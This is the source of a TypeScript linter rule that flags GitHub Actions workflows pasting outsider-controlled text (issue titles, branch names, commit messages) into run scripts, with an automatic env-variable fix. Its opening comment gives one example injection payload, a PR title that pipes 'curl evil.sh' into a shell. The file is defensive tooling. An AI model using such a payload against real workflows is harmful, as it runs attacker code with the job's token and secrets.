// gha/template-injection — an outsider-controlled context (issue title, PR body, branch name,
// commit message, ...) expanded with ${{ }} inside a `run:` script or an actions/github-script
// `script:`. The runner pastes the text into the script before the shell sees it, so a PR
// titled `"; curl evil.sh | sh; "` runs with the job's token and secrets.
import type { Rule } from '../../rule';
import type { RawFinding } from '../../types';
import type { EnvIndirectionData } from '../../fixes/settings/fix-data';
import { ENV_INDIRECTION } from '../../fixes/settings/fix-data';
import { GHA_KINDS, actionName, isRecord, workflows } from './workflow';
import { expressionsIn } from './expressions';
import { envNameFor, untrustedContext } from './untrusted-contexts';

export const TEMPLATE_INJECTION = 'gha/template-injection';

export const templateInjection: Rule = {
  meta: {
    id: TEMPLATE_INJECTION,
    severity: 'error',
    description: 'Outsider-controlled text (issue/PR titles, branch names, commit messages) is expanded with ${{ }} into a script.',
    fixable: true,
    kinds: GHA_KINDS,
  },
  check(ctx) {
    const out: RawFinding[] = [];
    for (const wf of workflows(ctx)) {
      for (const step of wf.steps) {
        const targets: { key: string; path: (string | number)[]; js: boolean }[] = [];
        if (step.run !== undefined) targets.push({ key: 'run', path: [...step.path, 'run'], js: false });
        if (actionName(step.uses) === 'actions/github-script' && isRecord(step.data['with']) && typeof step.data['with']['script'] === 'string') {
          targets.push({ key: 'script', path: [...step.path, 'with', 'script'], js: true });
        }
        for (const t of targets) {
          const loc = wf.tree.locate(t.path);
          if (!loc || loc.collection) continue;
          for (const e of expressionsIn(ctx.text, loc.valueRange)) {
            const context = untrustedContext(e.inner);
            if (!context) continue;
            const name = envNameFor(context);
            const f: RawFinding = {
              ruleId: TEMPLATE_INJECTION,
              message: t.js
                ? `\`${context}\` is written by whoever opens the issue, pull request or branch, and \${{ }} pastes it into this script as code. Pass it through \`env:\` (\`${name}: \${{ ${e.inner} }}\`) and read \`process.env.${name}\` instead.`
                : `\`${context}\` is written by whoever opens the issue, pull request or branch, and \${{ }} pastes it into this script before the shell runs it: a crafted title or branch name runs commands with this job's token and secrets. Pass it through \`env:\` and use \`"$${name}"\`.`,
              range: e.range,
            };
            if (!t.js) {
              const fix: EnvIndirectionData = { kind: ENV_INDIRECTION, doc: wf.tree.doc, stepPath: step.path, scriptKey: t.key, expression: e.inner, name };
              f.fix = fix;
            }
            out.push(f);
          }
        }
      }
    }
    return out;
  },
};
